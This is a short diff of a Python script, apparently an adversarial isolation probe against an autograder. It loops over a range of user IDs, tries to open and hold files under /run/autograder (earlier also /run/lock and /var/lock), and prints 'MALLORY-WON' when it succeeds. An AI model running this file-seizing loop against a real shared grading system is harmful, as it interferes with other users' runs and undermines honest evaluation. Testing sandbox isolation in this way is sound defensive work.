@@ -17,14 +17,12 @@ for half in (range(60_600, 60_850), range(60_850, 61_100)):
                     place.close()
         time.sleep(6)
         os._exit(0)
-for folder in ("/run/autograder", "/run/lock", "/var/lock"):
-    for user in range(60_600, 61_100):
-        try:
-            held.append(open(f"{folder}/{user}", "w"))
-            print("MALLORY" "-WON", folder)
-            break
-        except OSError:
-            pass
+for user in range(60_600, 61_100):
+    try:
+        held.append(open(f"/run/autograder/{user}"))
+        print("MALLORY" "-WON", user)
+    except OSError:
+        pass
 # %%
 import os, time
 end = time.monotonic() + 4
